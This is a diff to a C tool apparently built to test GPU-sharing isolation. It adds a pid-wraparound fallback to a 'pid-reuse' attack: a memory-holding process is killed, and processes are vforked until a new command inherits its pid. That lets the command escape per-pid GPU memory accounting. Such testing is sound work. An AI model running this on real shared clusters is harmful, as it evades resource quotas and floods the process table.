@@ -26,11 +26,13 @@
  *       allocate N MiB on card I, print this process's pid, and, still holding it,
  *       replace this program by CMD (execvp: the same pid, a new program)
  *   gpushare-attack pid-reuse --device I --alloc-mib N -- CMD [ARG...]
- *       in new user and PID namespaces (the workload's own, no privilege needed), a
- *       holder allocates N MiB on card I and is killed with SIGKILL; then CMD runs as
- *       a new process given the holder's pid (clone3 with set_tid), so a stack that
- *       keys charges by pid meets a live process with the dead one's pid.  Prints
- *       "holder pid P holds N MiB" and "pid P reused"; exits with CMD's status
+ *       a holder allocates N MiB on card I and is killed with SIGKILL; then CMD runs
+ *       as a new process given the holder's pid, so a stack that keys charges by pid
+ *       meets a live process with the dead one's pid.  The pid is given in new user
+ *       and PID namespaces (the workload's own: clone3 with set_tid), or, where the
+ *       pod may not make them, by starting short-lived processes until the pids
+ *       wrap round to the holder's (when pid_max allows it within MAX_CYCLE pids).
+ *       Prints "holder pid P holds N MiB" and "pid P reused"; exits with CMD's status
  *
  * Prints one line (vmm-release: one per try); exits 0 when the last allocation was
  * granted, 2 with the CUDA error name when the driver refused it, 1 when the attempt
@@ -388,9 +390,42 @@ static void hold_and_wait(int device, long mib, int fd) {
     for (;;) pause();
 }
 
-/* The first process of the new PID namespace: start the holder, kill it, give its
- * pid to CMD. */
-static int reuse_in_namespace(int device, long mib, char **argv) {
+/* Give pid want to CMD by starting processes that exit at once until the pids wrap
+ * round to it (vfork: each costs little more than the pid). */
+#define MAX_CYCLE 262144L
+static int reuse_by_cycling(pid_t want, char **argv) {
+    long pid_max = 0;
+    FILE *f = fopen("/proc/sys/kernel/pid_max", "r");
+    if (!f || fscanf(f, "%ld", &pid_max) != 1) pid_max = 0;
+    if (f) fclose(f);
+    if (pid_max <= 0 || pid_max > MAX_CYCLE) {
+        printf("pids not cycled: pid_max %ld (at most %ld cycled)\n", pid_max, MAX_CYCLE);
+        return 1;
+    }
+    for (long i = 0; i < 2 * pid_max; i++) {
+        pid_t c = vfork();
+        if (c < 0) {
+            printf("vfork failed after %ld processes: %s\n", i, strerror(errno));
+            return 1;
+        }
+        if (c == 0) {
+            if (getpid() == want) execvp(argv[0], argv);
+            _exit(getpid() == want ? 127 : 0);
+        }
+        if (c == want) {
+            printf("pid %d reused (after %ld processes)\n", (int)c, i);
+            fflush(stdout);
+            return status_of(c);
+        }
+        status_of(c);
+    }
+    printf("pid %d never came round in %ld processes\n", (int)want, 2 * pid_max);
+    return 1;
+}
+
+/* Start the holder, kill it, and give its pid to CMD: with clone3 in the first
+ * process of a PID namespace of the workload's own, else by cycling the pids. */
+static int reuse_pid(int device, long mib, char **argv, int own_namespace) {
     int fds[2];
     if (pipe(fds) != 0) return 1;
     pid_t holder = fork();
@@ -409,6 +444,7 @@ static int reuse_in_namespace(int device, long mib, char **argv) {
     status_of(holder);
     if (got <= 0 || strncmp(line, "holder pid ", 11) != 0) return 1;
     pid_t want = holder;
+    if (!own_namespace) return reuse_by_cycling(want, argv);
     struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&want, .set_tid_size = 1};
     long child = syscall(SYS_clone3, &args, sizeof args);
     if (child < 0) {
@@ -427,13 +463,14 @@ static int reuse_in_namespace(int device, long mib, char **argv) {
 
 static int pid_reuse(int device, long mib, char **argv) {
     if (unshare(CLONE_NEWUSER | CLONE_NEWPID) != 0) {
-        printf("unshare: new user and PID namespaces refused: %s\n", strerror(errno));
-        return 1;
+        printf("new user and PID namespaces refused (%s): cycling the pids\n", strerror(errno));
+        fflush(stdout);
+        return reuse_pid(device, mib, argv, 0);
     }
     fflush(stdout);
     pid_t init = fork(); /* the first process of the new PID namespace */
     if (init < 0) return 1;
-    if (init == 0) _exit(reuse_in_namespace(device, mib, argv));
+    if (init == 0) _exit(reuse_pid(device, mib, argv, 1));
     return status_of(init);
 }
 
